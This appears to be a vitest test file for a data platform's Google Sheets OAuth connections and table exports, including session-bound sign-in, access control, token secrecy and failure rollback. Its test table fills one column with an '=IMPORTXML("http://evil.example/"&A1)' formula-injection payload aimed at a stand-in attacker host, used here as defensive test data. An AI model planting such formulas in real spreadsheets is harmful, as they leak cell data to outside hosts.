import { afterAll, beforeAll, expect, test } from 'vitest';
import { session as sessionSchema } from '#contracts/accounts';
import type { GoogleConnection, SheetExport } from '#contracts/google';
import { connectRunEngine, migrateRunEngine, type PipelineServices } from '#pipelines';
import type { OrganizationId, SourceId } from '#platform/ids';
import { recordTable, openWarehouse } from '#warehouse';
import { type FakeGoogle, googleClient, startFakeGoogle } from '#testing/fake-google';
import { registerRoutes } from './register-routes.ts';
import { createTestApp, type TestApp } from './testing/test-app.ts';

let google: FakeGoogle;
let server: TestApp;
let services: PipelineServices;
const password = 'quiet river under stones';
const sheetId = '1AbCdEfGhIjKlMnOpQrStUv';

interface Person {
  readonly token: string;
  readonly id: string;
  readonly organizationId: OrganizationId;
}
let asha: Person;
let bina: Person;

beforeAll(async () => {
  google = await startFakeGoogle();
  server = await createTestApp({
    config: {
      accessTokenMinutes: 60,
      googleOauthClient: googleClient,
      googleAccountsUrl: google.origin,
      googleOauthUrl: google.origin,
      googleSheetsUrl: google.origin,
      outboundAllowedHosts: [google.host],
      servicePatience: { timeoutMs: 20_000, retryDelayMs: 1 },
    },
    prepare: async (base, database) => {
      await migrateRunEngine(database.ownerUrl);
      services = {
        ...base,
        warehouse: openWarehouse(base),
        runEngine: await connectRunEngine(database.appUrl, base.log),
      };
      return (route) => registerRoutes(route, services);
    },
  });
  const first = await server.request('POST', '/auth/signup', {
    body: { email: 'asha@example.org', password, name: 'Asha', organization_name: 'Trust' },
  });
  const session = sessionSchema.parse(first.body);
  asha = {
    token: session.access_token,
    id: session.user.id,
    organizationId: session.organization.id as OrganizationId,
  };
  const added = await server.request('POST', '/organization/members', {
    token: asha.token,
    body: { email: 'bina@example.org', name: 'Bina', role: 'editor' },
  });
  const { one_time_password: once } = added.body as { one_time_password: string };
  const second = await server.request('POST', '/auth/login', {
    body: { email: 'bina@example.org', password: once },
  });
  const other = sessionSchema.parse(second.body);
  bina = { token: other.access_token, id: other.user.id, organizationId: asha.organizationId };
});
afterAll(async () => {
  await services.runEngine.close();
  await services.warehouse.close();
  await server[Symbol.asyncDispose]();
  await google[Symbol.asyncDispose]();
});

/** What the browser does: begins, goes to Google, presses Allow, comes back with what Google sent along. */
async function goToGoogle(token: string, access: 'read' | 'write') {
  const begun = await server.request('POST', '/google-connections/sign-in', { token, body: { access } });
  expect(begun.status).toBe(200);
  const { url } = begun.body as { url: string };
  const answer = await fetch(url, { redirect: 'manual' });
  const back = new URL(answer.headers.get('location') ?? '');
  expect(back.pathname).toBe('/connect/google');
  return { state: back.searchParams.get('state') ?? '', code: back.searchParams.get('code') ?? '' };
}
const finish = (token: string, body: object) =>
  server.request('POST', '/google-connections', { token, body });

async function signIn(person: Person, email: string, access: 'read' | 'write'): Promise<GoogleConnection> {
  google.person = { email, allows: () => true };
  const finished = await finish(person.token, await goToGoogle(person.token, access));
  expect(finished.status).toBe(201);
  return finished.body as GoogleConnection;
}

function spreadsheet(values: unknown[][], more: object = {}) {
  return {
    title: 'Field data',
    readers: ['asha@gmail.com'],
    editors: [] as string[],
    sheets: [{ sheetId: 3, title: 'Report', rowCount: 100, columnCount: 5, values, formats: {}, ...more }],
  };
}

test('a sign-in counts once, in the session that began it, and its token is nowhere to be seen', async () => {
  const back = await goToGoogle(asha.token, 'read');
  const stolen = await finish(bina.token, back);
  expect(stolen).toMatchObject({ status: 422, body: { code: 'sign_in_expired' } });
  // Bina's try did not use it up: Asha still can.
  const mine = await finish(asha.token, back);
  expect(mine).toMatchObject({ status: 201, body: { account: 'asha@example.org', may_write: false } });
  expect(await finish(asha.token, back)).toMatchObject({ status: 422, body: { code: 'sign_in_expired' } });
  const late = await goToGoogle(asha.token, 'read');
  server.advance(16 * 60_000);
  expect(await finish(asha.token, late)).toMatchObject({ status: 422, body: { code: 'sign_in_expired' } });
  server.advance(-16 * 60_000);

  google.person = { email: 'asha@example.org', allows: (scope) => !scope.includes('spreadsheets') };
  expect(await finish(asha.token, await goToGoogle(asha.token, 'read'))).toMatchObject({
    status: 422,
    body: { code: 'source_forbidden' },
  });
  const again = await signIn(asha, 'asha@example.org', 'write');
  expect(again).toMatchObject({ id: (mine.body as GoogleConnection).id, may_write: true });

  const listed = await server.request('GET', '/google-connections', { token: bina.token });
  expect(listed.body).toMatchObject({
    items: [{ account: 'asha@example.org', is_mine: false }],
    can_sign_in: true,
  });
  const dump = await services.database.withSystem((trx) =>
    trx.selectFrom('google_connections').selectAll().execute(),
  );
  const text = JSON.stringify([listed.body, mine.body, again, dump]);
  for (const token of google.refreshTokens.keys()) expect(text).not.toContain(token);
  expect(text).not.toContain(googleClient.secret);
});

test('only the person who signed in chooses what is read with it; others may go on using what was chosen', async () => {
  google.spreadsheets.set(sheetId, spreadsheet([['Name'], ['Om']]));
  google.spreadsheets.set('2PrivateSpreadsheet', spreadsheet([['Salary'], [7]]));
  const connection = await signIn(asha, 'asha@gmail.com', 'read');
  const config = { spreadsheet: sheetId, login: { kind: 'google', connection_id: connection.id } };
  const body = { name: 'Sheet', type: 'google_sheets', config };
  expect((await server.request('POST', '/sources', { token: bina.token, body })).status).toBe(403);
  const created = await server.request('POST', '/sources', { token: asha.token, body });
  expect(created.status).toBe(201);
  const { id } = created.body as { id: string };
  const change = (more: object) =>
    server.request('PATCH', `/sources/${id}`, {
      token: bina.token,
      body: { config: { ...config, ...more } },
    });
  expect((await change({ header_row: 1 })).status).toBe(200);
  expect((await change({ spreadsheet: '2PrivateSpreadsheet' })).status).toBe(403);
  const tried = (source: object) =>
    server.request('POST', '/sources/test', {
      token: bina.token,
      body: { type: 'google_sheets', config: { ...config, ...source }, source_id: id },
    });
  expect((await tried({})).body).toMatchObject({ ok: true, preview: { rows: [{ name: 'Om' }] } });
  expect((await tried({ spreadsheet: '2PrivateSpreadsheet' })).body).toMatchObject({
    ok: false,
    code: 'forbidden',
  });
  google.refreshTokens.clear();
  expect((await tried({})).body).toMatchObject({ ok: false, code: 'source_credentials_refused' });
  expect(
    (await server.request('DELETE', `/google-connections/${connection.id}`, { token: bina.token })).status,
  ).toBe(403);
});

/** A table of the organization with every type in it. */
async function makeTable(rows: number): Promise<string> {
  const name = `source_${services.newId<SourceId>()}`;
  const warehouse = await services.warehouse.forOrganization(asha.organizationId);
  await warehouse.transaction((session) =>
    session.query(`CREATE TABLE "${warehouse.schema}"."${name}" AS
      SELECT g AS id, '=IMPORTXML("http://evil.example/"&A' || g || ')' AS note, (g / 4.0)::numeric AS amount,
        9007199254740993 + g AS big, g % 2 = 0 AS ok, date '2024-03-01' + g AS day,
        timestamptz '2024-03-01 06:30:00+00' AS seen, CASE WHEN g = 2 THEN NULL ELSE '00' || g END AS code
      FROM generate_series(1, ${rows}) g ORDER BY 1`),
  );
  await services.database.withOrganization(asha.organizationId, async (trx) => {
    await recordTable(trx, {
      organizationId: asha.organizationId,
      name,
      displayName: 'Visits',
      kind: 'source',
      columns: [
        ['id', 'integer'],
        ['note', 'text'],
        ['amount', 'decimal'],
        ['big', 'integer'],
        ['ok', 'boolean'],
        ['day', 'date'],
        ['seen', 'timestamptz'],
        ['code', 'text'],
      ].map(([column = '', type]) => ({
        name: column,
        display_name: column.toUpperCase(),
        type: type as 'text',
      })),
      rowCount: rows,
      sizeBytes: null,
      runToken: services.newId(),
    });
    await trx
      .updateTable('organizations')
      .set({ timezone: 'Asia/Kolkata' })
      .where('id', '=', asha.organizationId)
      .execute();
  });
  return name;
}

async function send(table: string, body: object, person = asha): Promise<SheetExport> {
  const started = await server.request('POST', `/warehouse/tables/${table}/sheet-exports`, {
    token: person.token,
    body,
  });
  expect(started.status).toBe(202);
  for (;;) {
    const listed = await server.request('GET', `/warehouse/tables/${table}/sheet-exports`, {
      token: person.token,
    });
    const [newest] = (listed.body as { items: SheetExport[] }).items;
    if (newest !== undefined && newest.status !== 'running') return newest;
    await new Promise((resolve) => setImmediate(resolve));
  }
}

test('a table is sent whole, with its types, and takes the place of what the sheet had', async () => {
  const table = await makeTable(12_000);
  const connection = await signIn(asha, 'asha@gmail.com', 'write');
  const target = spreadsheet([['old'], ...Array.from({ length: 90 }, () => ['old'])], { merges: [{}] });
  target.editors.push('asha@gmail.com');
  google.spreadsheets.set(sheetId, target);
  google.calls.length = 0;
  const sent = await send(table, { connection_id: connection.id, spreadsheet: sheetId, sheet: 'Report' });
  expect(sent).toMatchObject({
    status: 'succeeded',
    rows_done: 12_000,
    rows_total: 12_000,
    spreadsheet_title: 'Field data',
    account: 'asha@gmail.com',
    url: `https://docs.google.com/spreadsheets/d/${sheetId}/edit#gid=3`,
  });
  const [sheet, ...others] = google.spreadsheets.get(sheetId)?.sheets ?? [];
  expect(others).toEqual([]);
  expect(sheet).toMatchObject({ sheetId: 3, title: 'Report', formats: { 5: 'DATE', 6: 'DATE_TIME' } });
  expect(sheet?.values).toHaveLength(12_001);
  expect(sheet?.values.slice(0, 3)).toEqual([
    ['ID', 'NOTE', 'AMOUNT', 'BIG', 'OK', 'DAY', 'SEEN', 'CODE'],
    [1, '=IMPORTXML("http://evil.example/"&A1)', 0.25, '9007199254740994', false, 45_353, 45_352.5, '001'],
    [2, '=IMPORTXML("http://evil.example/"&A2)', 0.5, '9007199254740995', true, 45_354, 45_352.5, ''],
  ]);
  expect(sheet?.values.at(-1)?.[0]).toBe(12_000);
  const writes = google.calls.filter(({ method }) => method === 'PUT');
  expect(writes.length).toBeGreaterThan(2);
  for (const { body } of writes) expect(body.length).toBeLessThan(2_000_000);
  const audited = await server.request('GET', '/audit', { token: asha.token });
  expect(JSON.stringify(audited.body)).toContain('table_sent_to_sheet');
});

test('without a spreadsheet a new one is made, and a second time nothing is left over', async () => {
  const table = await makeTable(3);
  const connection = await signIn(asha, 'asha@gmail.com', 'write');
  const first = await send(table, { connection_id: connection.id, sheet: 'Visits' });
  const made = google.spreadsheets.get(first.spreadsheet_id ?? '');
  expect(made).toMatchObject({ title: 'Visits', sheets: [{ title: 'Visits', hidden: false }] });
  const again = await send(table, {
    connection_id: connection.id,
    spreadsheet: first.url ?? '',
    sheet: 'Visits',
  });
  expect(again).toMatchObject({ status: 'succeeded', spreadsheet_id: first.spreadsheet_id });
  expect(made?.sheets).toHaveLength(1);
  expect(made?.sheets[0]?.values).toHaveLength(4);
});

test('whatever goes wrong on the way, the sheet keeps its old content and says why', async () => {
  const table = await makeTable(12_000);
  const connection = await signIn(asha, 'asha@gmail.com', 'write');
  const target = spreadsheet([['old'], ['kept']]);
  target.editors.push('asha@gmail.com');
  google.spreadsheets.set(sheetId, target);
  const body = { connection_id: connection.id, spreadsheet: sheetId, sheet: 'Report' };
  const faults = [
    [(method: string) => method === 'PUT', { status: 500, text: 'x' }, 'outbound_failed'],
    [(method: string) => method === 'PUT', { status: 401, json: {} }, 'source_credentials_refused'],
    [(_: string, path: string) => path.endsWith(':batchUpdate'), { reset: true }, 'outbound_failed'],
  ] as const;
  for (const [isHit, fault, code] of faults) {
    google.fault = ({ method, url }) => (isHit(method, url.pathname) ? fault : undefined);
    expect(await send(table, body)).toMatchObject({ status: 'failed', error: { code } });
    google.fault = undefined;
    expect(google.spreadsheets.get(sheetId)?.sheets[0]).toMatchObject({ values: [['old'], ['kept']] });
  }
  // An answer that gets lost: done, and told as a fault. It is not done twice.
  let isLost = true;
  google.after = ({ url }, reply) => {
    if (!isLost || !url.pathname.endsWith(':batchUpdate')) return reply;
    isLost = false;
    return { status: 503, text: 'lost' };
  };
  expect(await send(table, body)).toMatchObject({ status: 'succeeded' });
  google.after = undefined;
  expect(google.spreadsheets.get(sheetId)?.sheets).toHaveLength(1);

  target.editors.length = 0;
  expect(await send(table, body)).toMatchObject({ status: 'failed', error: { code: 'source_forbidden' } });
  expect(await send(table, { ...body, spreadsheet: '9NoSuchSpreadsheet' })).toMatchObject({
    status: 'failed',
    error: { code: 'source_not_found' },
  });
  const reader = await signIn(bina, 'bina@gmail.com', 'read');
  for (const [person, connectionId, status] of [
    [bina, connection.id, 403],
    [bina, reader.id, 422],
  ] as const) {
    const answer = await server.request('POST', `/warehouse/tables/${table}/sheet-exports`, {
      token: person.token,
      body: { ...body, connection_id: connectionId },
    });
    expect(answer.status).toBe(status);
  }
});

test('what is being sent can be stopped, and is not sent twice at once', async () => {
  const table = await makeTable(3);
  const connection = await signIn(asha, 'asha@gmail.com', 'write');
  const target = spreadsheet([['old']]);
  target.editors.push('asha@gmail.com');
  google.spreadsheets.set(sheetId, target);
  google.fault = ({ method }) => (method === 'PUT' ? { drip: '{', everyMs: 50 } : undefined);
  const body = { connection_id: connection.id, spreadsheet: sheetId, sheet: 'Report' };
  const path = `/warehouse/tables/${table}/sheet-exports`;
  const started = await server.request('POST', path, { token: asha.token, body });
  expect(started.status).toBe(202);
  expect((await server.request('POST', path, { token: asha.token, body })).status).toBe(409);
  const { id } = started.body as SheetExport;
  const stopped = await server.request('POST', `/sheet-exports/${id}/cancel`, { token: asha.token });
  expect(stopped).toMatchObject({ status: 200, body: { status: 'cancelled' } });
  expect((await server.request('POST', `/sheet-exports/${id}/cancel`, { token: asha.token })).status).toBe(
    409,
  );
  // Within its next look the program takes away what it wrote beside the sheet.
  await expect.poll(() => google.spreadsheets.get(sheetId)?.sheets.length, { timeout: 10_000 }).toBe(1);
  google.fault = undefined;
  expect(google.spreadsheets.get(sheetId)?.sheets[0]?.values).toEqual([['old']]);
});
